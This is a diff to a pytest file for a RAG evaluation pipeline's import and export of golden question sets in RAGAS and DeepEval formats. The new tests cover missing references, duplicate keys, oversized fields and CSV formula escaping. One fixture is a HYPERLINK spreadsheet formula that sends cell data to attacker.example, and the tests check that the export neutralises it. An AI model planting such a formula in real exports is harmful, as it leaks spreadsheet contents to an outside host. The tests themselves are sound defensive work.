@@ -16,6 +16,8 @@ import json
 import pandas as pd
 import pytest
 
+from rag_eval_pipeline.core.cells import list_cell
+from rag_eval_pipeline.core.defaults import MAX_FIELD_CHARS
 from rag_eval_pipeline.core.judging.item import EvalItem
 from rag_eval_pipeline.evaluation.tabular import read_rows, to_items
 from rag_eval_pipeline.synthesis.interop import (
@@ -28,7 +30,6 @@ from rag_eval_pipeline.synthesis.interop import (
     import_golden_set,
     imported_chunk_id,
     imported_qa_id,
-    list_cell,
     read_peer_file,
     write_records,
 )
@@ -38,6 +39,9 @@ from rag_eval_pipeline_tests.review_fixtures import CHUNKS, ITEMS, golden_frame
 
 LOGS_TEXT, BACKUPS_TEXT, HOTEL_TEXT = CHUNKS["retention.md#0"], CHUNKS["retention.md#1"], CHUNKS["travel.md#0"]
 QUOTED = "The \"audit\" log isn't the request log, it's kept apart."  # both quotes and a comma, in a list cell
+NO_REFERENCE = (
+    "no reference answer to verify: give the reference, or mark the item unanswerable with a declining reference"
+)
 
 
 @pytest.fixture(scope="module")
@@ -103,22 +107,21 @@ def test_a_ragas_evaluation_dataset_jsonl_becomes_golden_items(tmp_path, verify)
     assert imported_chunk_id(HOTEL_TEXT).startswith("imported#") and imported_chunk_id(HOTEL_TEXT) != imported_chunk_id(
         BACKUPS_TEXT
     )
-    # A declining reference and no reference at all: questions the documents do not answer.
-    tokyo, airline = (
-        items["What is the per-diem for meals in Tokyo?"],
-        items["Which airline do employees have to fly with?"],
-    )
+    # A declining reference: a question the documents do not answer.
+    tokyo = items["What is the per-diem for meals in Tokyo?"]
     assert (tokyo["question_type"], tokyo["ground_truth"], tokyo["gold_chunk_ids"]) == (
         UNANSWERABLE,
         "I don't know.",
         [],
     )
-    assert (airline["question_type"], airline["ground_truth"]) == (UNANSWERABLE, REFUSAL)
     assert backups["question_type"] == hotel["question_type"] == SIMPLE
     assert set(imported.golden["generator"]) == {"imported:ragas"}
     assert list(imported.golden.columns) == GOLDEN_COLUMNS and imported.golden["grounded"].all()
     assert backups["qa_id"] == imported_qa_id(backups["question"], backups["ground_truth"])
-    assert imported.rejected.empty
+    # No reference at all: nothing says the documents do not answer it, so it is not an unanswerable item.
+    assert imported.rejected[["question", "stage", "reason"]].values.tolist() == [
+        ["Which airline do employees have to fly with?", "form", f"line 4: {NO_REFERENCE}"]
+    ]
 
 
 def test_a_ragas_testset_csv_with_python_list_cells(tmp_path, verify):
@@ -199,7 +202,7 @@ def test_deepeval_goldens_json(tmp_path, verify):
 )
 def test_export_then_import_gives_the_same_golden_set(tmp_path, verify, format_name, name):
     golden = golden_frame(ITEMS)
-    path = write_records(golden_records(golden, format_name), tmp_path / name, format_name)
+    path = write_records(golden_records(golden, format_name), tmp_path / name, format_name).path
 
     peer = read_peer_file(path)  # the format told by the file alone
     imported = import_golden_set(peer, verify)
@@ -225,7 +228,7 @@ def test_a_testset_names_our_types_synthesizers_that_read_back_as_the_same_types
     ]
     for record in records:  # a tool that drops our extra column still keeps the type
         del record["question_type"]
-    path = write_records(records, tmp_path / "testset.jsonl", RAGAS_TESTSET)
+    path = write_records(records, tmp_path / "testset.jsonl", RAGAS_TESTSET).path
     assert import_golden_set(read_peer_file(path), None).golden["question_type"].tolist() == [
         SIMPLE,
         MULTI_CONTEXT,
@@ -235,7 +238,7 @@ def test_a_testset_names_our_types_synthesizers_that_read_back_as_the_same_types
 
 
 def test_csv_export_is_what_ragas_writes_and_reads(tmp_path):
-    path = write_records(golden_records(golden_frame(ITEMS), RAGAS), tmp_path / "set.csv", RAGAS)
+    path = write_records(golden_records(golden_frame(ITEMS), RAGAS), tmp_path / "set.csv", RAGAS).path
     with path.open(newline="", encoding="utf-8") as handle:
         rows = list(csv.DictReader(handle))
     assert list(rows[0])[:4] == ["user_input", "reference_contexts", "reference_context_ids", "reference"]
@@ -244,7 +247,7 @@ def test_csv_export_is_what_ragas_writes_and_reads(tmp_path):
 
 
 def test_deepeval_export_is_an_array_of_goldens(tmp_path):
-    path = write_records(golden_records(golden_frame(ITEMS), DEEPEVAL), tmp_path / "goldens.json", DEEPEVAL)
+    path = write_records(golden_records(golden_frame(ITEMS), DEEPEVAL), tmp_path / "goldens.json", DEEPEVAL).path
     goldens = json.loads(path.read_text(encoding="utf-8"))
     assert [g["input"] for g in goldens] == [item.question for item in ITEMS]
     assert goldens[0]["context"] == [LOGS_TEXT] and goldens[0]["expected_output"] == ITEMS[0].ground_truth
@@ -261,7 +264,7 @@ def test_an_audits_rows_as_ragas_samples_and_deepeval_test_cases_read_back_by_ev
     answered = [EvalItem(ITEMS[0].qa_id, ITEMS[0].question, "90 days.", contexts, ITEMS[0].ground_truth)]
 
     for format_name, name in ((RAGAS, "rows.csv"), (RAGAS, "rows.jsonl"), (DEEPEVAL, "cases.json")):
-        path = write_records(evaluation_records(answered, golden, format_name), tmp_path / name, format_name)
+        path = write_records(evaluation_records(answered, golden, format_name), tmp_path / name, format_name).path
         [(_, item)], bad = to_items(read_rows(path))
 
         assert bad == []
@@ -341,7 +344,7 @@ def test_the_imported_set_passes_the_expectations_suite_the_synthesis_runs(tmp_p
     from rag_eval_pipeline.synthesis.expectations import MIN_QUESTION_CHARS, check_golden_set
     from rag_eval_pipeline.synthesis.interop import MIN_QUESTION_CHARS as IMPORT_MIN_QUESTION_CHARS
 
-    path = write_records(golden_records(golden_frame(ITEMS), DEEPEVAL), tmp_path / "goldens.json", DEEPEVAL)
+    path = write_records(golden_records(golden_frame(ITEMS), DEEPEVAL), tmp_path / "goldens.json", DEEPEVAL).path
     imported = import_golden_set(read_peer_file(path), verify)
 
     report = check_golden_set(imported.golden, set(imported.chunks["chunk_id"]), {SIMPLE})
@@ -485,6 +488,218 @@ def test_an_empty_file_holds_no_rows(tmp_path):
     (tmp_path / "empty.jsonl").write_text("\n", encoding="utf-8")
     with pytest.raises(ValueError, match="holds no rows"):
         read_peer_file(tmp_path / "empty.jsonl")
+
+
+# ---- a row without a reference, repeated keys, oversized fields ---------------------------------------
+
+
+@pytest.mark.parametrize(
+    "reference",
+    [{}, {"reference": None}, {"reference": float("nan")}, {"reference": ""}, {"reference": "  "}],
+    ids=["absent", "null", "NaN", "empty", "blank"],
+)
+def test_a_row_without_a_reference_is_rejected_not_made_unanswerable(tmp_path, reference):
+    """A RAGAS EvaluationDataset sample (user_input, retrieved_contexts, response): nothing says the documents
+    do not answer it, so it cannot become an unanswerable item whose ground truth is a refusal."""
+    sample = {
+        "user_input": "Which airline do employees have to fly with?",
+        "retrieved_contexts": [HOTEL_TEXT],
+        "response": "Any airline in economy class.",
+        **reference,
+    }
+    path = _write_jsonl(tmp_path / "dataset.jsonl", [GOOD, sample])
+    if reference.get("reference") != reference.get("reference"):
+        assert '"reference": NaN' in path.read_text(encoding="utf-8")  # what json.dumps writes, and json.loads reads
+
+    imported = import_golden_set(read_peer_file(path), None)
+
+    assert imported.golden["question"].tolist() == [GOOD["user_input"]]
+    [rejected] = imported.rejected.to_dict("records")
+    assert (rejected["stage"], rejected["reason"]) == ("form", f"line 2: {NO_REFERENCE}")
+    assert (rejected["question_type"], rejected["ground_truth"]) == (SIMPLE, "")
+    assert imported.plan["question_type"].tolist() == [SIMPLE]  # no unanswerable item was made
+
+
+def test_a_ragas_evaluation_dataset_without_references_is_refused_in_one_line(tmp_path):
+    path = _write_ragas_csv(
+        tmp_path / "samples.csv",
+        [
+            {
+                "user_input": "Which airline do employees have to fly with?",
+                "retrieved_contexts": [HOTEL_TEXT],
+                "response": "Any airline.",
+            }
+        ],
+    )
+    with pytest.raises(ValueError) as raised:
+        import_golden_set(read_peer_file(path), None)
+    assert str(raised.value).endswith(f"can be published (1 rejected, the first: row 1: form: {NO_REFERENCE})")
+
+
+def test_only_a_declining_reference_or_our_own_type_makes_an_item_unanswerable(tmp_path):
+    path = _write_jsonl(
+        tmp_path / "testset.jsonl",
+        [
+            {
+                "user_input": "What is the per-diem for meals in Tokyo?",
+                "reference_contexts": [HOTEL_TEXT],
+                "reference": "The documents give no information about meals in Tokyo.",
+                "synthesizer_name": "single_hop_specific_query_synthesizer",
+            },
+            {"user_input": "Which airline do employees fly with?", "question_type": UNANSWERABLE},
+            {"user_input": "Which airline do managers fly with?", "synthesizer_name": "rag_eval_unanswerable"},
+            {"user_input": "Which airline do drivers fly with?", "synthesizer_name": "single_hop_specific_query"},
+        ],
+    )
+
+    imported = import_golden_set(read_peer_file(path), None)
+
+    assert imported.golden[["question_type", "ground_truth"]].values.tolist() == [
+        [UNANSWERABLE, "The documents give no information about meals in Tokyo."],
+        [UNANSWERABLE, REFUSAL],  # our own question_type says so
+        [UNANSWERABLE, REFUSAL],  # our own synthesizer name says so
+    ]
+    assert imported.rejected["reason"].tolist() == [f"line 4: {NO_REFERENCE}"]
+
+
+@pytest.mark.parametrize(
+    "name, content, message",
+    [
+        (
+            "set.jsonl",
+            json.dumps(GOOD)
+            + '\n{"user_input": "What is the hotel cap?", "reference": "EUR 230.", "reference": "x"}\n',
+            "has 1 problem, nothing was imported: line 2: duplicate key 'reference'",
+        ),
+        (
+            "goldens.json",
+            '[{"input": "What is the hotel cap?"},\n {"input": "What is the hotel cap in Paris?",\n'
+            '  "additional_metadata": {"qa_id": "paris-1", "qa_id": "paris-2"}}]',
+            "has 1 problem, nothing was imported: item 2: duplicate key 'qa_id'",
+        ),
+        (
+            "set.csv",
+            "user_input,reference,reference_contexts,reference\nWhat is the hotel cap?,EUR 230.,[],EUR 250.\n",
+            "names the column 'reference' twice: a reader would see only one of them",
+        ),
+    ],
+    ids=["jsonl-key", "json-nested-key", "csv-column"],
+)
+def test_a_key_or_column_given_twice_refuses_the_file_in_one_line(tmp_path, name, content, message):
+    """json.loads keeps the last of two equal keys and pandas renames a second column `reference.1`: either
+    would publish one of two answers without a word."""
+    path = tmp_path / name
+    path.write_text(content, encoding="utf-8")
+    with pytest.raises(ValueError) as raised:
+        import_golden_set(read_peer_file(path), None)
+    assert message in str(raised.value) and str(path) in str(raised.value)
+    assert "\n" not in str(raised.value)
+
+
+def test_a_field_over_the_limit_is_a_recorded_rejection_and_its_context_no_chunk(tmp_path):
+    big = "x" * (MAX_FIELD_CHARS + 1)
+    path = _write_jsonl(
+        tmp_path / "set.jsonl",
+        [
+            GOOD,
+            {**GOOD, "user_input": "What is the hotel cap? " + big},
+            {**GOOD, "user_input": "What is the hotel cap in Paris?", "reference_contexts": [HOTEL_TEXT, big]},
+            {**GOOD, "user_input": "What is the hotel cap in London?", "reference": big},
+            {**GOOD, "user_input": "What is the hotel cap in Rome?", "qa_id": big},
+        ],
+    )
+
+    imported = import_golden_set(read_peer_file(path), None)
+
+    assert imported.golden["question"].tolist() == [GOOD["user_input"]]
+    limit = f"over the limit of {MAX_FIELD_CHARS:,} per field"
+    assert imported.rejected[["stage", "reason"]].values.tolist() == [
+        ["form", f"line 2: user_input is {MAX_FIELD_CHARS + 24:,} characters, {limit}"],
+        ["form", f"line 3: reference_contexts 2 is {MAX_FIELD_CHARS + 1:,} characters, {limit}"],
+        ["form", f"line 4: reference is {MAX_FIELD_CHARS + 1:,} characters, {limit}"],
+        ["form", f"line 5: qa_id is {MAX_FIELD_CHARS + 1:,} characters, {limit}"],
+    ]
+    assert imported.chunks["text"].tolist() == [HOTEL_TEXT]  # the oversized context is no chunk to retrieve
+
+
+def test_a_lone_surrogate_is_read_as_a_replacement_character_not_a_failed_write(tmp_path):
+    """json.loads lets "\\ud800" in; no UTF-8 writer (Parquet, sha256) takes it: read as U+FFFD, as evaluate does."""
+    given_ids = {"qa_id": "paris-1", "reference_context_ids": ["travel.md#0"]}
+    path = tmp_path / "set.jsonl"
+    path.write_text(
+        json.dumps({**GOOD, **given_ids, "user_input": "What is the hotel cap in Paris?\ud800"})
+        + "\n"
+        + json.dumps({**GOOD, "reference": "EUR 230.\udfff"})
+        + "\n",
+        encoding="ascii",  # the escapes, as JSON writes them
+    )
+
+    imported = import_golden_set(read_peer_file(path), None)
+
+    assert imported.golden["question"].tolist() == ["What is the hotel cap in Paris?\ufffd", GOOD["user_input"]]
+    assert imported.golden["ground_truth"].tolist()[1] == "EUR 230.\ufffd"
+    imported.golden.to_parquet(tmp_path / "golden.parquet")  # what the import publishes
+
+
+# ---- spreadsheet marks in a CSV export ---------------------------------------------------------------
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1, "How long are request logs kept?")'
+MARKED_ALREADY = "'=1+1 is how a spreadsheet adds; how long are database backups kept?"
+
+
+def _formula_golden() -> pd.DataFrame:
+    golden = golden_frame(ITEMS)
+    golden.loc[0, "question"] = HYPERLINK
+    golden.loc[0, "ground_truth"] = "+90 days, then they are deleted."
+    golden.loc[1, "question"] = MARKED_ALREADY  # a text that starts with a mark before a formula start
+    golden.loc[2, "qa_id"] = "@hotel"
+    golden.loc[3, "ground_truth"] = "- " + REFUSAL
+    return golden
+
+
+def _csv_cells(path) -> list[dict]:
+    with path.open(newline="", encoding="utf-8") as handle:
+        return list(csv.DictReader(handle))
+
+
+@pytest.mark.parametrize("format_name", [RAGAS, RAGAS_TESTSET])
+def test_a_csv_export_marks_formula_cells_and_the_import_takes_exactly_one_mark_off(tmp_path, format_name):
+    golden = _formula_golden()
+
+    written = write_records(golden_records(golden, format_name), tmp_path / "set.csv", format_name)
+
+    assert written.marked == 5
+    rows = _csv_cells(written.path)
+    assert not [value for row in rows for value in row.values() if value.startswith(FORMULA_STARTS)]
+    assert rows[0]["user_input"] == "'" + HYPERLINK and rows[1]["user_input"] == "'" + MARKED_ALREADY
+    assert rows[2]["qa_id"] == "'@hotel" and rows[0]["reference"] == "'+90 days, then they are deleted."
+    imported = import_golden_set(read_peer_file(written.path), None)
+    kept = ["qa_id", "question", "ground_truth", "gold_chunk_ids", "gold_contexts", "question_type"]
+    back = imported.golden[kept].map(lambda v: list(v) if not isinstance(v, str) else v)
+    assert back.to_dict("records") == golden[kept].map(lambda v: list(v) if not isinstance(v, str) else v).to_dict(
+        "records"
+    )
+    again = write_records(golden_records(imported.golden, format_name), tmp_path / "again.csv", format_name)
+    assert again.path.read_bytes() == written.path.read_bytes()  # out, in and out again: byte for byte
+
+
+def test_jsonl_and_json_exports_keep_every_text_exactly(tmp_path):
+    golden = _formula_golden()
+    jsonl = write_records(golden_records(golden, RAGAS), tmp_path / "set.jsonl", RAGAS)
+    goldens = write_records(golden_records(golden, DEEPEVAL), tmp_path / "goldens.json", DEEPEVAL)
+    assert jsonl.marked == goldens.marked == 0
+    first = json.loads(jsonl.path.read_text(encoding="utf-8").splitlines()[0])
+    assert first["user_input"] == HYPERLINK
+    assert json.loads(goldens.path.read_text(encoding="utf-8"))[1]["input"] == MARKED_ALREADY
+
+
+def test_an_audits_rows_in_csv_are_marked_too(tmp_path):
+    golden = golden_frame(ITEMS)
+    answered = [EvalItem(ITEMS[0].qa_id, ITEMS[0].question, "=1+1", [{"id": "a#0", "text": "@x"}], "y")]
+    written = write_records(evaluation_records(answered, golden, RAGAS), tmp_path / "rows.csv", RAGAS)
+    assert written.marked == 1 and _csv_cells(written.path)[0]["response"] == "'=1+1"
 
 
 # ---- list cells ------------------------------------------------------------------------------------
